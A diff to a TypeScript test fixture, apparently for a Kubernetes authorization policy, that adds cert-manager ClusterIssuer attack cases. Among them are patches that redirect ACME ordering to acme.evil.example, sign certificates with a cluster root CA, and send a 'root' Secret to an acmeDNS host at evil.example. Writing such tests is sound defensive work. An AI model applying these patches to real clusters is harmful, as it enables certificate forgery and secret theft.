@@ -62,6 +62,26 @@ function content(name: string, namespace: string, source: Json, deletionPolicy =
   };
 }
 
+/** The issuer that ACME_EMAIL creates, changed by `acme`, or with another type besides. */
+function issuer(acme: Json, others: Json = {}): Json {
+  const http01 = { ingress: { ingressClassName: "nginx", serviceType: "ClusterIP" } };
+  const usual = {
+    server: "https://acme-v02.api.letsencrypt.org/directory",
+    email: "ops@example.org",
+    privateKeySecretRef: { name: "wheelwright-nginx-account" },
+    solvers: [{ http01 }],
+  };
+  return {
+    apiVersion: "cert-manager.io/v1",
+    kind: "ClusterIssuer",
+    metadata: { name: "wheelwright-nginx" },
+    spec: { acme: { ...usual, ...acme }, ...others },
+  };
+}
+
+const change = (acme: Json, others?: Json): ClusterRequest =>
+  patch("/apis/cert-manager.io/v1/clusterissuers/wheelwright-nginx", issuer(acme, others));
+
 /** What an administrator, the storage and the program have put into the cluster. */
 export const SPACES: readonly Json[] = [
   space("spoke-own", LABELS),
@@ -75,6 +95,7 @@ export const SPACES: readonly Json[] = [
   content("kept", "spoke-own", HANDLE),
   content("cut", "spoke-own", CUT),
   content("foreign", "kube-public", CUT),
+  issuer({}),
 ];
 
 const RELEASE = { spec: { persistentVolumeReclaimPolicy: "Delete" } }, LOSE = { spec: { deletionPolicy: "Delete" } };
@@ -145,6 +166,21 @@ export const ATTACKS: Readonly<Record<string, Readonly<Record<string, ClusterReq
       spec: { deletionPolicy: "Delete", source: { snapshotHandle: null, ...CUT } },
     }),
   },
+  issuers: {
+    "have certificates ordered elsewhere": change({ server: "https://acme.evil.example/directory" }),
+    "take over the account of another issuer": change({ privateKeySecretRef: { name: "letsencrypt-account" } }),
+    "sign with an authority of the cluster": change({}, { ca: { secretName: "root" } }),
+    "replace ACME by an authority of the cluster": patch("/apis/cert-manager.io/v1/clusterissuers/wheelwright-nginx", {
+      spec: { acme: null, ca: { secretName: "root" } },
+    }),
+    "sign with nothing": change({}, { selfSigned: {} }),
+    "have a Secret handed out to a name server": change({
+      solvers: [{ dns01: { acmeDNS: { host: "https://evil.example", accountSecretRef: { name: "root", key: "k" } } } }],
+    }),
+    "solve in both ways": change({
+      solvers: [{ http01: {}, dns01: { webhook: { solverName: "x", groupName: "y" } } }],
+    }),
+  },
 };
 
 /** What the program does. */
@@ -162,5 +198,6 @@ export const NEEDS: Readonly<Record<string, ClusterRequest>> = {
   "have the volume of a sandbox deleted": patch(`${VOLUMES}/of-sandbox`, RELEASE),
   "create a content that names a snapshot": post(CONTENTS, content("new", "sandbox-own", HANDLE)),
   "have a snapshot deleted that was cut from its volume": patch(`${CONTENTS}/cut`, LOSE),
+  "change its issuer": change({ email: "others@example.org" }),
   "delete a content of its own": remove(`${CONTENTS}/kept`),
 };
